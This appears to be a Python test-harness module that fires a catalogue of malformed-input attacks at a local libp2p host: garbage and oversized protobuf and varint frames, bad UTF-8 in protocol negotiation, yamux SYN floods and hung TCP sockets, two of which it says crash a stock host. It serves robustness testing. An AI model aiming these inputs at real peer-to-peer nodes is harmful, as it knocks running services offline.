"""Attacks by bytes: some end a stock host, others might. An attack takes (host, victim, the victim's port)."""

from __future__ import annotations

import hashlib
import os
import struct
from collections.abc import Awaitable, Callable
from typing import Any

import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.pb import crypto_pb2
from libp2p.peer.id import ID
from libp2p.pubsub.pb import rpc_pb2
from libp2p.utils.varint import encode_delim, encode_uvarint, encode_varint_prefixed

MESHSUB = "/meshsub/1.1.0"
TOPIC = "/folkmoot/lab/t/1"
GARBAGE = b"\xff\xff\xff\xff\x07garbage"
MULTISTREAM = encode_delim(b"/multistream/1.0.0")
AUTHOR = create_new_key_pair(hashlib.sha256(b"author").digest())
Attack = Callable[[Any, Any, int], Awaitable[None]]


def message(data: bytes = b"x" * 50, *, topic: str = TOPIC, **more: bytes) -> Any:
    """A gossip message. more: fields that it must not have."""
    return rpc_pb2.Message(data=data, topicIDs=[topic], **more)


def signed(data: bytes = b"x" * 50, *, author: bytes | None = None, key: bytes | None = None) -> Any:
    """A message as the library's own pubsub makes it, with an author and a signature."""
    author = ID.from_pubkey(AUTHOR.public_key).to_bytes() if author is None else author
    made = message(data, from_id=author, seqno=os.urandom(8))
    made.signature = AUTHOR.private_key.sign(b"libp2p-pubsub:" + made.SerializeToString())
    if key is not None:
        made.key = key
    return made


def rpc(**words: Any) -> bytes:
    return encode_varint_prefixed(rpc_pb2.RPC(**words).SerializeToString())


def say(protocol: str, data: bytes, *, close: bool = False, reset: bool = False) -> Attack:
    async def attack(host: Any, victim: Any, port: int) -> None:
        stream = await host.new_stream(victim, [protocol])
        if data:
            await stream.write(data)
        if close:
            await stream.close()
        if reset:
            await stream.reset()

    return attack


def negotiate(data: bytes, flood: int = 0) -> Attack:
    async def attack(host: Any, victim: Any, port: int) -> None:
        stream = await host.get_network().new_stream(victim)
        await stream.write(data)
        with trio.move_on_after(1.0):
            for _ in range(flood):
                await stream.write(bytes(65000))

    return attack


def tcp(*payloads: bytes, keep: bool = False) -> Attack:
    async def attack(host: Any, victim: Any, port: int) -> None:
        held = []  # sockets that stay open until the host ends
        for payload in payloads:
            stream = await trio.open_tcp_stream("127.0.0.1", port)
            if payload:
                await stream.send_all(payload)
            if keep:
                held.append(stream)
            else:
                with trio.move_on_after(0.05):  # or until the victim has had enough
                    await stream.receive_some()
                await stream.aclose()
        host.held = held

    return attack


def yamux(*frames: bytes) -> Attack:
    async def attack(host: Any, victim: Any, port: int) -> None:
        muxed = host.get_network().get_connections(victim)[0].muxed_conn
        for frame in frames:
            await muxed._write_frame(frame)

    return attack


def frame(version: int, kind: int, flags: int, stream: int, length: int) -> bytes:
    return struct.pack("!BBHII", version, kind, flags, stream, length)


def _weird_control() -> bytes:
    control = rpc_pb2.ControlMessage()
    have = control.ihave.add()
    have.topicID = TOPIC
    have.messageIDs.extend([b"\xff\x00", b"abc", b""])
    control.iwant.add().messageIDs.extend([b"\xff", b"zz"])
    control.graft.add().topicID = "nope"
    prune = control.prune.add()
    prune.topicID, prune.backoff = TOPIC, 2**62
    peer = prune.peers.add()
    peer.peerID, peer.signedPeerRecord = b"\xff\xff", b"zz"
    return rpc(control=control)


def _key_of(data: bytes) -> bytes:
    return b"\x12\x20" + hashlib.sha256(data).digest()


_RSA = crypto_pb2.PublicKey(key_type=0, data=bytes(20)).SerializeToString()
_HALF = b"\x64abc"

ATTACKS: dict[str, Attack] = {
    "ok_message": say(MESHSUB, rpc(publish=[message()])),
    "handler_raises": say("/folkmoot/raises/1", b""),
    "handler_keyerror": say("/folkmoot/keyerror/1", b""),
    "handler_stream_reset": say("/folkmoot/reads/1", b"a", reset=True),
    "handler_incomplete": say("/folkmoot/reads/1", _HALF, close=True),
    "frame_oversized": say("/folkmoot/reads/1", encode_uvarint(1 << 30) + b"a" * 100),
    "frame_endless_varint": say("/folkmoot/echo/1", b"\xff" * 64),
    "greeting_garbage": say("/folkmoot/peers/1", encode_varint_prefixed(os.urandom(200))),
    "greeting_huge": say("/folkmoot/peers/1", encode_uvarint(2**40)),
    "greeting_deep": say("/folkmoot/peers/1", encode_varint_prefixed(b"\x81" * 5000 + b"\x00")),
    "validator_raises": say(MESHSUB, rpc(publish=[message(topic="/folkmoot/lab/boom/1")])),
    "validator_refuses": say(MESHSUB, rpc(publish=[message(b"bad")])),
    "mss_badutf8": negotiate(MULTISTREAM + encode_delim(b"\xff\xfe\xfd")),
    "mss_badutf8_handshake": negotiate(encode_delim(b"\xff\xfe\xfd")),
    "mss_empty_protocol": negotiate(MULTISTREAM + encode_delim(b"")),
    "mss_huge": negotiate(encode_uvarint(2**40)),
    "mss_flood": negotiate(encode_uvarint(2**40), flood=3000),
    "pb_garbage": say(MESHSUB, encode_varint_prefixed(GARBAGE)),
    "pb_varint_over": say(MESHSUB, b"\xff" * 11),
    "pb_too_large": say(MESHSUB, encode_uvarint(50_000_000) + b"a" * 100),
    "pb_truncated": say(MESHSUB, _HALF, close=True),
    "key_garbage": say(MESHSUB, rpc(publish=[signed(author=_key_of(b"z"), key=b"\xff\xffgarbage")])),
    "signed": say(MESHSUB, rpc(publish=[signed()])),
    "from_empty": say(MESHSUB, rpc(publish=[message(from_id=b"")])),
    "from_garbage": say(MESHSUB, rpc(publish=[message(from_id=b"\xff\xff\xff")])),
    "no_topic": say(MESHSUB, rpc(publish=[rpc_pb2.Message(data=b"x")])),
    "two_topics": say(MESHSUB, rpc(publish=[rpc_pb2.Message(data=b"x", topicIDs=[TOPIC, TOPIC])])),
    "rsa_key": say(MESHSUB, rpc(publish=[signed(author=_key_of(_RSA), key=_RSA)])),
    "sender_record_garbage": say(MESHSUB, rpc(senderRecord=b"\xff\x00garb", publish=[message()])),
    "control_weird": say(MESHSUB, _weird_control()),
    "topic_badutf8": say(MESHSUB, encode_varint_prefixed(b"\x0a\x06\x08\x01\x12\x02\xff\xfe")),
    "tcp_garbage": tcp(*(os.urandom(500) for _ in range(5))),
    "tcp_hang": tcp(*([b""] * 20), keep=True),
    "noise_garbage": tcp(
        MULTISTREAM + encode_delim(b"/noise") + b"\x00\x20" + os.urandom(32) + b"\x00\x40" + os.urandom(64)
    ),
    "tcp_badutf8": tcp(MULTISTREAM + encode_delim(b"\xff\xfe")),
    "dht_garbage": say("/ipfs/kad/1.0.0", encode_varint_prefixed(GARBAGE)),
    "identify_push_garbage": say("/ipfs/id/push/1.0.0", encode_varint_prefixed(GARBAGE), close=True),
    "ping_short": say("/ipfs/ping/1.0.0", b"abc", close=True),
    "yamux_unknown": yamux(frame(0, 0, 0, 99991, 3) + b"abc", frame(7, 9, 0, 5, 0), frame(0, 1, 0, 99993, 5)),
    "yamux_big": yamux(frame(0, 0, 0, 5, 2**31)),
    "yamux_syn_flood": yamux(*(frame(0, 1, 1, 100001 + 2 * i, 0) for i in range(3000))),
}
STOCK_DIES_OF = ("handler_raises", "mss_badutf8")
